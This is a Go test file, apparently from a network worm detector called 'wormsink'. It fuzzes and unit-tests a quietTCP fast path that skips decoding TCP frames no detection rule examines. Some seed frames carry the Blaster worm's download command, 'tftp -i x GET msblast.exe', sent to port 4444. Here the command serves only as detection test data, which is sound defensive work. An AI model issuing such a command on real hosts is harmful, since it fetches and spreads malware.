package wire

import (
	"net"
	"testing"
	"time"

	"github.com/gopacket/gopacket"
	"github.com/gopacket/gopacket/layers"

	"wormsink/internal/evidencetest"
)

// FuzzQuietTCP: every frame quietTCP lets the matcher only count decodes
// cleanly to Ethernet, IP and TCP, makes no evidence and leaves the
// handshake table alone, exactly as if it had been decoded.
func FuzzQuietTCP(f *testing.F) {
	set := port4444Set(f)
	c, s := victim, infected
	c6, s6 := net.ParseIP("2001:db8::1"), net.ParseIP("2001:db8::2")
	tcp6 := func(sport, dport uint16, payload string) []byte {
		ip := &layers.IPv6{Version: 6, NextHeader: layers.IPProtocolTCP, HopLimit: 64, SrcIP: c6, DstIP: s6}
		t := &layers.TCP{SrcPort: layers.TCPPort(sport), DstPort: layers.TCPPort(dport), SYN: true, Window: 1000}
		t.SetNetworkLayerForChecksum(ip)
		return ser(f, eth(layers.EthernetTypeIPv6), ip, t, gopacket.Payload(payload))
	}
	for _, frame := range [][]byte{
		seg(f, c, s, 1040, 80, "S", 1, 0, ""),
		seg(f, c, s, 1040, 80, "A", 1, 1, "GET / HTTP/1.1\r\n"),
		seg(f, c, s, 1040, 4444, "A", 1, 1, "tftp -i x GET msblast.exe"),
		seg(f, s, c, 4444, 1040, "SA", 1, 2, ""),
		tcp6(1040, 443, "hello"),
		tcp6(1040, 4444, "tftp -i x GET msblast.exe"),
	} {
		f.Add(frame)
		f.Add(frame[:len(frame)-3])
	}
	f.Fuzz(func(t *testing.T, frame []byte) {
		if !quietTCP(set, frame) {
			return
		}
		var rec evidencetest.Recorder
		m := NewMatcher(StaticSet{set}, &rec, Options{TCPFlows: 64})
		m.decodeAll = true
		n := m.Packet(layers.LinkTypeEthernet, frame, Meta{Time: time.Unix(1e9, 0)})
		st := m.Stats()
		if n != 0 || len(rec.Events()) != 0 || st.Undecodable != 0 || st.UnknownLink != 0 || st.Fragments != 0 || st.TFTPRequests != 0 {
			t.Fatalf("quiet frame %x: %d events, stats %+v", frame, n, st)
		}
		d := m.dec.decoded
		if len(d) != 3 || d[0] != layers.LayerTypeEthernet || (d[1] != layers.LayerTypeIPv4 && d[1] != layers.LayerTypeIPv6) || d[2] != layers.LayerTypeTCP {
			t.Fatalf("quiet frame %x decodes to %v", frame, d)
		}
		if m.flows != nil {
			t.Fatalf("quiet frame %x made the handshake table", frame)
		}
	})
}

// Most frames of a mirror port are TCP no rule looks at: they are counted
// without being decoded, and the others are still decoded.
func TestQuietTCP(t *testing.T) {
	set := port4444Set(t)
	c, s := victim, infected
	for _, tt := range []struct {
		name  string
		frame []byte
		quiet bool
	}{
		{"web", seg(t, c, s, 1040, 80, "A", 1, 1, "GET /"), true},
		{"rule port", seg(t, c, s, 1040, 4444, "A", 1, 1, "x"), false},
		{"from the rule port", seg(t, s, c, 4444, 1040, "SA", 1, 2, ""), false},
		{"truncated", seg(t, c, s, 1040, 80, "S", 1, 0, "")[:14+20+10], false},
		{"udp", udp4(t, c, s, 1040, 80, []byte("x")), false},
	} {
		if got := quietTCP(set, tt.frame); got != tt.quiet {
			t.Errorf("%s: quiet %v, want %v", tt.name, got, tt.quiet)
		}
	}
}
